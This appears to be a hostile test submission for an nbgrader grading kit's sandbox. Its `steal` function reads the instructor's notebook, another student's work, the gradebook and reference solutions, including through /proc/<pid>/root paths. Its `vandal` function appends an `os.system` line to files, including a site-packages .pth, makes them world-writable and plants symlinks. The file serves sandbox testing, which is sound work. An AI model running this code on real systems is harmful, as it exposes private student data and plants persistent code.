"""Snoop on and vandalise the grading machine's files.

The test puts a cell before this file that defines, as absolute paths, COURSE
(an nbgrader course directory with the instructor's source notebook, another
student's submission and the gradebook), KIT (the kit's checkout) and TARGETS
(files to change or plant: the course's own files, new modules in the kit, a
``.pth`` file in site-packages, a script in the venv).

``steal`` tries to read the instructor's notebook, the other student's
notebook, the gradebook, the kit's reference solution and the kit's tests:
plain opens, a walk of the course directory, and detours through
/proc/<pid>/root and /proc/<pid>/cwd of every process it can see. Everything
it manages to read comes back in its return value, where the judge sees it.

``vandal`` appends to (creating when missing) every file in TARGETS -- a
``.pth`` file in site-packages would run its line in every later Python
start-up --, makes them world-writable, and leaves symlinks to them in its
scratch directory in case the judge follows links while cleaning up. It
reports which writes went through.
"""

import os


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read(20000).decode("utf-8", "replace")
    except Exception as exc:
        return None


def steal():
    wanted = [os.path.join(COURSE, "source", "kmeans", "kmeans.ipynb"),
              os.path.join(COURSE, "submitted", "bob", "kmeans", "kmeans.ipynb"),
              os.path.join(COURSE, "gradebook.db"),
              os.path.join(KIT, "reference", "_lloyd.py"),
              os.path.join(KIT, "tests", "submissions", "correct.py")]
    found = set()
    for path in wanted:
        text = _read(path)
        found.add(f"{path}: {'not readable' if text is None else text}")
    for top, _dirs, files in os.walk(COURSE):
        for name in files:
            found.add(f"walk {name}: {_read(os.path.join(top, name))}")
    # Through the root and working directory of every process in sight.
    for pid in [entry for entry in os.listdir("/proc") if entry.isdigit()] + ["self"]:
        for link in ("root", "cwd"):
            for number, path in enumerate(wanted):
                text = _read(f"/proc/{pid}/{link}{path}")
                if text is not None:   # the same file seen twice is one finding
                    found.add(f"via /proc/*/{link}: file {number}: {text}")
    return sorted(found)


def vandal():
    report = []
    for path in TARGETS:
        try:   # appending changes an existing file and creates a missing one
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "ab") as f:
                f.write(b"import os; os.system('echo pwned')\n")
            report.append(f"{path}: written")
        except Exception as exc:
            report.append(f"{path}: {type(exc).__name__}")
        try:
            os.chmod(path, 0o777)
        except Exception:
            pass
    for number, path in enumerate(TARGETS):
        try:
            os.symlink(path, f"link-{number}")
        except Exception:
            pass
    return report
